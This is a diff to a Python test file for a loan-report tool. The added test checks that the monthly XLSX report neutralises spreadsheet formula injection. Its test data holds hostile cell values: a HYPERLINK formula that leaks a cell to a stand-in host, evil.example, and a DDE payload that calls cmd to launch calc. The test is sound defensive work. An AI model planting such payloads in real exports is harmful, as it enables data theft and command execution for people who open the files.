@@ -6,15 +6,24 @@ from __future__ import annotations
 import csv
 import io
 from dataclasses import replace
+from datetime import UTC, date, datetime
 from decimal import Decimal
 from pathlib import Path
 
 import openpyxl
 import pytest
 
+from npldesk.analytics import Analytics, connect
 from npldesk.cli.output import OutputFormat, emit
 from npldesk.reports.exports import list_export, write_csv, write_file
+from npldesk.reports.monthly import monthly_report
+from npldesk.reports.monthly_render import write_xlsx
+from npldesk.tape.importer import ImportOptions, import_files
+from npldesk.tape.org import import_org
+from npldesk.tape.store import Store
 from tests.reports.test_exports import early_warning_result
+from tests.tape_factory import ORG_ROWS, loan_rows, write_org
+from tests.tape_factory import write_csv as write_tape
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -78,3 +87,33 @@ def test_the_command_lines_csv_neutralises_formulas_and_keeps_numbers(
         "npl_balance_change": "-1250.50",
     }
     assert second == {"key": "HB01", "name": "'@x", "npl_balance_change": "-0.10"}
+
+
+def test_the_monthly_reports_workbook_neutralises_formulas(tmp_path: Path) -> None:
+    """The monthly report's XLSX writes text the bank's own files supply (unit names from the
+    organisation file, the tape's file name) as text a spreadsheet will not run."""
+    hostile_units = {
+        "HB00": "-淮北分行",
+        "HB01": HOSTILE_NAME,
+        "HB02": "@SUM(1+1)*cmd|'/C calc'!A0",
+    }
+    org = [{**row, "name": hostile_units.get(row["code"], row["name"])} for row in ORG_ROWS]
+    store = Store(tmp_path / "store")
+    import_org(store, write_org(tmp_path / "org.csv", org))
+    rows = [*loan_rows(4, date(2019, 11, 30)), *loan_rows(4, date(2019, 12, 31))]
+    import_files(store, [write_tape(tmp_path / "=cmd.csv", rows)], ImportOptions())
+    report = monthly_report(
+        Analytics(store=store, engine=connect("duckdb")),
+        date(2019, 12, 31),
+        generated_by="tester",
+        generated_at=datetime(2020, 1, 5, tzinfo=UTC),
+    )
+    target = tmp_path / "report.xlsx"
+    write_xlsx(report, target)
+    book = openpyxl.load_workbook(target)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    title = "'-淮北分行 asset-quality report 2019-12"
+    assert {title, "'" + HOSTILE_NAME, "'@SUM(1+1)*cmd|'/C calc'!A0", "'=cmd.csv"} <= set(texts)
+    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r"))]
